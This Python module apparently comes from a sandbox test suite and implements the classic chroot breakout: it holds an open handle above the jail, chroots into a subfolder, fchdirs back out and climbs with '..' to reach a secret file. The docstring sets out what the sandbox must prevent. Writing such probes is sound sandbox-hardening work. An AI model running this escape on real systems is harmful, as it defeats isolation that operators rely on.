"""Makes a folder its root while it keeps hold of one above, then climbs out: the classic way out of chroot.

Aims at: the refusal of chroot and pivot_root (seccomp), a root that was pivoted to (jail).
Must not: change its root, or see the outside by climbing.
Verdict: reply, error
Shown in: bare
Needs: root
"""

import os


def attack(lure):
    done = []
    try:
        above = os.open(".", os.O_RDONLY)
        os.makedirs("cell", exist_ok=True)
        os.chroot("cell")
        done.append("changed its root")
        os.fchdir(above)
    except OSError:
        pass
    try:
        for _ in range(64):
            os.chdir("..")
    except OSError:
        pass
    try:
        os.close(os.open("." + lure["secret_file"], os.O_RDONLY))
        done.append("climbed out")
    except OSError:
        pass
    if done:
        try:
            os.chroot(".")
        except OSError:
            pass
    return done
